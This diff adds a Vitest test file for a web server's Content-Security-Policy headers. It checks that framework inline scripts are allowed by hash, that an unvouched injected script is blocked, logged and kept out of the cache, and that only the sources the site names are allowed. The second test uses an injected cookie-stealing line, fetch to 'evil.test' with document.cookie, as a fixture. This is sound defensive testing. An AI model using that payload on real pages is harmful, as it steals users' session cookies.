@@ -1,0 +1,62 @@
+// @vitest-environment node
+import { createHash } from 'node:crypto'
+import { expect, test } from 'vitest'
+import { fakeRenderer, page } from '#front/testing/fake-renderer.ts'
+import { serveFront } from '#front/testing/serve-front.ts'
+
+const own = 'self.__next_f.push([1,"Vorhang"])'
+const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`
+const policyOf = (header: string | string[] | undefined) => String(header)
+
+test('a page’s policy allows the framework’s inline scripts by their hashes, and nothing inline else', async () => {
+  const { render } = fakeRenderer(() =>
+    page(`<script>${own}</script><script type="application/ld+json">{"a":1}</script>`),
+  )
+  const { ask } = await serveFront({ renderer: render })
+  const first = await ask('/de')
+  const hit = await ask('/de')
+  const policy = policyOf(hit.headers['content-security-policy'])
+
+  expect(policy).toContain(`script-src 'self' ${hashOf(own)};`)
+  expect(policy).toContain("style-src 'self';")
+  expect(policy).not.toContain('unsafe')
+  expect(policy).toBe(first.headers['content-security-policy'])
+  expect(hit.headers['cache-status']).toBe('front; hit')
+})
+
+test('a page with a script that nobody vouches for is sent with a policy that blocks it, not kept, and logged', async () => {
+  const foreign = 'fetch("//evil.test?"+document.cookie)'
+  const { render } = fakeRenderer(() =>
+    page(`<script>${own}</script><SCRIPT data-x="1">${foreign}</SCRIPT>`),
+  )
+  const { ask, logged } = await serveFront({ renderer: render })
+
+  for (let round = 0; round < 2; round++) {
+    const { headers } = await ask('/de')
+    const policy = policyOf(headers['content-security-policy'])
+    expect(policy).toContain(hashOf(own))
+    expect(policy).not.toContain(hashOf(foreign))
+    expect(headers['cache-control']).toBe('private, no-store')
+    expect(headers['cache-status']).toBe('front; fwd=bypass')
+  }
+  const warning = logged.find(({ msg }) => String(msg).includes('inline scripts'))
+  expect(warning).toMatchObject({ scripts: [foreign] })
+})
+
+test('foreign sources are only those that the site names', async () => {
+  const { render } = fakeRenderer(() => page(''))
+  const none: string[] = []
+  const { ask } = await serveFront({
+    renderer: render,
+    foreign: {
+      script: none,
+      connect: none,
+      image: none,
+      media: none,
+      frame: ['https://player.example'],
+    },
+  })
+  const policy = policyOf((await ask('/de')).headers['content-security-policy'])
+  expect(policy).toContain("frame-src 'self' https://player.example;")
+  expect(policy.match(/https:/g)).toHaveLength(1)
+})
